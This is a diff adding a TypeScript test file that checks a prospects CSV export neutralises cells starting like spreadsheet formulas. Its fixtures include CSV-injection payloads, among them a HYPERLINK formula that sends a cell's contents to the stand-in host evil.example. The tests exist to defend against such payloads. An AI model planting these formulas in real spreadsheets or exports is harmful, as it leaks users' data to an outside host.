@@ -1,0 +1,51 @@
+/** Exports safe to open (issue 13, row 7): no cell of a CSV we write starts like a spreadsheet formula. */
+import { parse } from 'csv-parse/sync';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { csvCell, csvLine } from '../../src/lib/csv.ts';
+import { prospectCsvLine } from '../../src/prospects/service.ts';
+import type { Prospect } from '../../src/prospects/schema.ts';
+
+const readBack = (line: string): string[] => parse(line, { relax_column_count: true })[0];
+
+describe('CSV cells are neutralised per OWASP', () => {
+  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=1'])('%j gets a leading quote', (text) => {
+    expect(readBack(csvLine([text, 'x']))).toEqual([`'${text}`, 'x']);
+  });
+
+  it('numbers stay numbers, negative ones included; ordinary text is unchanged', () => {
+    expect(csvLine([-3, -0.5, 0, 'Acme', "O'Brien", 'a-b', null, ['=x', 'y']])).toBe(`-3,-0.5,0,Acme,O'Brien,a-b,,'=x;y\n`);
+  });
+
+  it('property: any text reads back as itself, or with one leading quote when it starts like a formula; never as a formula', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (text) => {
+        const [cell] = readBack(`${csvCell(text)},end\n`);
+        expect(cell).toBe(/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
+        expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      }),
+      { numRuns: 2_000 },
+    );
+  });
+
+  it('the prospects CSV neutralises a hostile account name, reasons, similar accounts and lists', () => {
+    const prospect: Prospect = {
+      domain: 'evil.example',
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      score: 0.9,
+      tier: 'A',
+      subscores: { fit: 0.8, similarity: 0.7, intent: -0.1, criteria: null },
+      reasons: [{ feature: 'industry:x', label: '@risk', direction: 'positive', weight: 0.2 }],
+      similarTo: [],
+      account: {
+        domain: 'evil.example', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', industry: '+industry', employees: 10, revenue: null,
+        country: 'US', region: '-region', city: '\tcity', foundedYear: 2001, businessModel: 'b2b', stage: null, technologies: ['=cmd'], keywords: [],
+        description: null,
+      },
+    };
+    const cells = readBack(prospectCsvLine(prospect, 1));
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+    expect(cells[2]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
+    expect(cells[7]).toBe('-0.1'); // a number: stays a number
+  });
+});
